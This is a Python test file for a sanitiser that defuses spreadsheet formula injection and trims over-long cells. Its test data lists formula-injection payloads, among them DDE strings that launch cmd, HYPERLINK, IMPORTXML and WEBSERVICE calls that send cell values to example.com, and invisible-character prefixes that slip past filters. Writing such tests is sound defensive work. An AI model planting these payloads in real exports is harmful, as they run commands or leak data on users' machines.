"""No cell is a formula, whatever an advert holds, and none is longer than cells may be."""

from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from screenad.outputs.cell import ROOM, fitted, inert

BEGINNINGS = "=+-@＝＋－＠﹢﹣﹦﹫−"
#: What spreadsheets pass over, or people don't see, before a formula.
PASSED = [
    "", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\u2060", "\ufeff", "\u200e",
    "\u202e", "\u00ad", "\ufe0f", "\u3164", "\x00", "\x1b", " \u200b\t", '"', '""', ' "',
]  # fmt: skip
FORMULAS = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.com?x="&A1,"open")',
    "SUM(1,2)*cmd|'/C notepad'!'A1'", 'IMPORTXML(CONCAT("http://example.com",A1),"//a")',
    'WEBSERVICE("http://example.com")', "DDE(\"cmd\";\"/C calc\";\"x\")",
    "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", "@SUM(1)", "+1-1",
]  # fmt: skip
#: Before a cell, or before one that a semicolon begins inside it.
BEFORE = ["", "a;", "a; b ;", '";']
PATTERNS = [
    (before, passed + begins + formula)
    for before, passed, begins, formula in product(BEFORE, PASSED, BEGINNINGS, FORMULAS)
]


def cells(text: str) -> list[str]:
    """Give what a spreadsheet that parts cells at semicolons would find."""
    return text.split(";")


def is_formula(cell: str) -> bool:
    """Ask whether a cell begins a formula, seen with every eye that is blind to something."""
    seen = "".join(each for each in cell if each.isprintable() and not each.isspace())
    hidden = '"\u200b\u2060\ufeff\u200e\u202e\u00ad\ufe0f\u3164'
    return seen.lstrip(hidden)[:1] in tuple(BEGINNINGS)


def test_no_formula_is_left_in_any_of_its_forms() -> None:
    assert len(PATTERNS) == 4 * 22 * 13 * 10
    for before, formula in PATTERNS:
        first = cells(formula)[0]
        assert is_formula(first)
        made = inert(before + formula)
        assert not any(map(is_formula, cells(made))), (before, formula)
        assert made.replace("'", "") == (before + formula).replace("'", "")


@pytest.mark.parametrize(
    "text", ["", "a=b", "20-30 USD", "x; y; z", "me@example.com", "C++", "'=1", "1 - 2", "a\n-b"]
)
def test_other_texts_stay(text: str) -> None:
    assert inert(text) == text


@given(st.text(st.characters() | st.sampled_from(f'{BEGINNINGS};"\t\r\n \u200b')))
def test_any_text_is_inert_and_nothing_of_it_is_lost(text: str) -> None:
    made = inert(text)
    assert not any(map(is_formula, cells(made)))
    assert made.replace("'", "") == text.replace("'", "")
    assert inert(made) == made


@pytest.mark.parametrize("letter", ["a", "高", "😀"])
def test_a_long_text_is_cut_where_a_cell_ends_and_says_so(letter: str) -> None:
    whole = letter * (ROOM // (len(letter.encode("utf-16-le")) // 2))
    assert fitted(whole, "[cut]") == whole
    cut = fitted(whole + letter * 2, "[cut]")
    assert cut.endswith(f"{letter}[cut]")
    assert ROOM - 1 <= len(cut.encode("utf-16-le")) // 2 <= ROOM
